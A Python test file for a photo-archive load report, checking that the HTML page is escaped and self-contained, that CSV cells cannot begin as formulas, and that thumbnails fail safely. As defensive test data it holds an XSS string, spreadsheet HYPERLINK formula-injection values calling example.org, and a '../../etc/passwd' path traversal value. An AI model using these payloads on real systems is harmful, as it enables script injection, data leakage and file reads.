"""The page shows what the report says, escaped and self-contained; the table holds no formulas."""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import re
import stat
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
import skimage.data
from PIL import Image

from cluster.load.advice import ADVICE, advice
from cluster.load.members import Refusal
from cluster.load.outcome_types import NOBODY, RECORD_DELETED, Became, PartOutcome
from cluster.load.plan_types import Unplanned
from cluster.load.report import summarise
from cluster.load.report_page import as_json, render, write_page, write_rejected_csv
from cluster.load.report_types import MANY_RECORDS, PhotoRow
from cluster.load.thumbnails import SIDE_PX, Thumbnails
from homeward.config import WorkerSettings
from homeward.errors import PhotoReason, StoreUnavailable
from photos.folder import FolderPhotoStore
from tests.cluster.load.outcomes import flipped, never, part, photo, record, rejected
from tests.workers.photo_bytes import blocks, encode

NASTY = "<script>alert('x')</script>&\"'><img src=http://example.org/x>"
HASH = bytes(range(32))


def outcomes() -> list[PartOutcome]:
    """A little of everything."""
    return [
        part(
            0,
            [
                photo(0, "case 1", picture=HASH),
                photo(1, "case 1", picture=flipped(HASH, 4)),
                photo(2, "case 2", picture=flipped(HASH, 7)),
                rejected(3, "NO_FACE", "case 3", width=640, height=480),
                rejected(4, "PHOTO_TRUNCATED", NASTY, photo=NASTY, message=NASTY, line=17),
                rejected(5, "NO_FACE", "case 3"),
            ],
            [record("case 1"), record("case 2"), record("case 3", searchable=False)],
        ),
        part(1, [photo(10 + n, f"logo {n}", "logo", picture=bytes(32)) for n in range(MANY_RECORDS + 1)]),
    ]


def jpeg(row: PhotoRow) -> bytes:
    return b"jpeg of %d" % row.number


def shown(page: str) -> list[bytes]:
    return [base64.b64decode(found) for found in re.findall(r'src="data:image/jpeg;base64,([^"]*)"', page)]


class _Page(HTMLParser):
    """Tags, attributes and text as a browser has them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("src", "href", "action", "style")]
        assert not any(name.startswith("on") for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text += " " + data


def test_the_page_says_what_became_of_the_photos_and_what_to_look_at() -> None:
    with summarise(outcomes()) as report:
        page = _Page(render(report, jpeg, title="Archive of Lund", total_photos=17))
    text = " ".join(page.text.split())
    for said in (
        "Archive of Lund",
        "NO_FACE : 2",
        advice("NO_FACE")[1],
        "line 17 of the manifest",
        "case 3 2 2 NO_FACE",
        "case 1 and case 2: 1 picture in both",
        "11 photos of 11 records",
        "case 1 2 copies case 1/0.jpg (no. 0) , case 1/1.jpg (no. 1)",
        "Nothing on it is an identification",
        "4 photos without an outcome: 6 to 9",
        "4 photos that are not of this load's input: 17 to 20",
    ):
        assert said in text
    assert "match" not in text.lower()


def test_a_load_in_which_every_photo_is_there_says_so() -> None:
    with summarise([part(0, [photo(0)])]) as report:
        page = render(report, never, total_photos=1)
    assert "All 1 photos of the input are accounted for" in page
    assert page.count("<p>None.</p>") == 5


def test_whatever_photos_and_records_are_called_the_page_stays_a_page() -> None:
    with summarise(outcomes()) as report:
        raw = render(report, jpeg, title=NASTY, csv_name=NASTY)
    page = _Page(raw)
    assert NASTY in html.unescape(page.text.replace("  ", " ")) or NASTY in page.text
    assert "script" not in page.tags
    assert all(link.startswith(("data:image/jpeg;base64,", "#")) for link in page.links)
    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in raw
    assert "http://example.org" not in "".join(page.links)


def test_thumbnails_are_those_of_the_photos_and_as_many_as_asked_for() -> None:
    with summarise(outcomes()) as report:
        everything = shown(render(report, jpeg))
        assert sorted(set(everything)) == sorted(b"jpeg of %d" % number for number in (0, 1, 2, 3, 4, 5, 10))
        few = render(report, jpeg, thumbnails=2, csv_name="rejected.csv")
        assert b"jpeg of 5" not in shown(few)
        assert "1 more, listed in rejected.csv." in " ".join(few.split())
        assert not shown(render(report, never))
        none = render(report, jpeg, thumbnails=0)
        assert "2 more, not shown here." in none


def test_a_reason_with_many_photos_leaves_room_for_the_others() -> None:
    photos = [rejected(n, "NO_FACE", "A") for n in range(200)]
    photos += [rejected(200 + n, "PHOTO_CORRUPT", "A") for n in range(3)]
    with summarise([part(0, photos)]) as report:
        numbers = [int(found.split()[-1]) for found in shown(render(report, jpeg, thumbnails=50))]
    assert numbers == [*range(47), 200, 201, 202]


def test_the_page_is_written_for_its_owner_alone(tmp_path: Path) -> None:
    with summarise(outcomes()) as report:
        write_page(report, tmp_path / "page.html", jpeg)
        write_rejected_csv(report, tmp_path / "rejected.csv")
        for path in tmp_path.iterdir():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert len(list(tmp_path.iterdir())) == 2
        with pytest.raises(StoreUnavailable):
            write_page(report, tmp_path / "none" / "file", jpeg)
        with pytest.raises(StoreUnavailable):
            write_rejected_csv(report, tmp_path / "none" / "file")


def test_every_reason_has_advice() -> None:
    assert set(ADVICE) == {*PhotoReason, *Refusal, *Unplanned, RECORD_DELETED}
    assert all(means and what for means, what in ADVICE.values())
    assert advice("OF_ANOTHER_VERSION")[1]


def test_the_table_holds_every_rejected_photo(tmp_path: Path) -> None:
    path = tmp_path / "rejected.csv"
    with summarise(outcomes()) as report:
        write_rejected_csv(report, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["number"] for row in rows] == ["3", "4", "5"]
    assert rows[1]["photo"] == rows[1]["reference"] == rows[1]["message"] == NASTY
    assert rows[1]["line"] == "17"
    assert rows[0]["what to do"] == advice("NO_FACE")[1]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_no_cell_begins_as_a_formula_does(start: str, tmp_path: Path) -> None:
    path = tmp_path / "rejected.csv"
    word = f'{start}HYPERLINK("http://example.org/?"&A1)'
    with summarise([part(0, [rejected(0, word, word, photo=word, message=word, sha256=word)])]) as report:
        write_rejected_csv(report, path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        _, row = csv.reader(file)
    assert row.count(f"'{word}") == 5
    assert not any(cell.startswith(start) for cell in row)


def test_programs_get_all_of_it() -> None:
    with summarise(outcomes()) as report:
        found = json.loads(json.dumps(as_json(report, 17)))
    assert found["sums"]["became"]["REJECTED"] == 3
    assert [row["number"] for row in found["rejected"]] == [3, 4, 5]
    assert found["unaccounted"]["missing"] == {"count": 4, "stretches": [[6, 9]]}
    assert found["unaccounted"]["everything_is_there"] is False
    assert found["suspected_doubles"][0]["pictures"][0]["one"]["photo"] == "case 1/0.jpg"
    assert found["common_pictures"][0]["records"] == MANY_RECORDS + 1


def row(sha256: str, *, kept: bool = True) -> PhotoRow:
    return PhotoRow(0, "a.jpg", "A", "", Became.REJECTED, "NO_FACE", "", 0, 0, sha256, 9, 9, 9, NOBODY, kept)


def test_thumbnails_are_small_upright_and_of_stored_photos_alone(tmp_path: Path) -> None:
    store = FolderPhotoStore(tmp_path)
    pixels = np.array(skimage.data.astronaut())  # type: ignore[no-untyped-call]
    wide = store.put("agency", encode(np.ascontiguousarray(pixels[:256]), "PNG"))
    tiny = store.put("agency", encode(blocks(48, 32), "JPEG"))
    with Thumbnails(store, "agency", WorkerSettings()) as thumbnails:
        data = thumbnails(row(wide))
        assert data is not None
        image = Image.open(io.BytesIO(data))
        assert (image.format, image.size) == ("JPEG", (SIDE_PX, SIDE_PX // 2))
        small = np.array(Image.fromarray(pixels[:256]).resize(image.size), float)
        assert abs(np.asarray(image, float) - small).mean() < 12
        assert thumbnails(row(tiny)) is not None
        assert thumbnails(row(wide, kept=False)) is None


def test_what_cannot_be_shown_costs_itself_alone(tmp_path: Path) -> None:
    store = FolderPhotoStore(tmp_path)
    good = store.put("agency", encode(blocks(), "JPEG"))
    bad = [
        store.put("agency", data)
        for data in (
            b"no photo",
            encode(blocks(), "JPEG")[:200],
            b"%!PS-Adobe",
            b"\x89PNG\r\n\x1a\n" + bytes(99),
        )
    ]
    lost = store.put("agency", b"damaged later")
    [path] = tmp_path.rglob(lost)
    path.write_bytes(b"other")
    with Thumbnails(store, "agency", WorkerSettings()) as thumbnails:
        for sha256 in (*bad, lost, "0" * 64, "", "../../etc/passwd"):
            assert thumbnails(row(sha256)) is None
        assert thumbnails(row(good)) is not None


def test_a_store_that_does_not_answer_is_asked_once(tmp_path: Path) -> None:
    class Down(FolderPhotoStore):
        asked = 0

        def get(self, agency: str, sha256: str) -> bytes:
            self.asked += 1
            raise StoreUnavailable("gone")

    store = Down(tmp_path)
    with Thumbnails(store, "agency", WorkerSettings()) as thumbnails:
        assert [thumbnails(row("0" * 64)) for _ in range(5)] == [None] * 5
    assert store.asked == 1
